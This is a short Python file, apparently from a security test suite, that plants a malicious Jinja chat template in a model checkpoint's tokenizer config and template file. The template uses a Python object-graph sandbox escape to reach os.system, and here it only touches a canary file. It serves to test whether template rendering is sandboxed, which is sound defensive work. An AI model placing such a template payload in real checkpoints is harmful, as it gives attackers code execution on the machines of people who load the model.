"""A chat template is a Jinja program that comes with the tokenizer. One that climbs from a string to `os.system` runs
commands wherever templates are rendered outside a sandbox."""

from __future__ import annotations

from pathlib import Path

from victim import Commands, all_of, change, checkpoint


def prepare(place: Path, canary: Path) -> Commands:
    folder = checkpoint(place)
    climb = "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for c in ''.__class__.__base__.__subclasses__() %}{{ c.__init__.__globals__ }}{% endfor %}"
    evil = climb + "{{ cycler.__init__.__globals__.os.system('touch " + str(canary) + "') }}"
    change(folder / "tokenizer_config.json", chat_template=evil)
    (folder / "chat_template.jinja").write_text(evil)
    return all_of(folder, "")
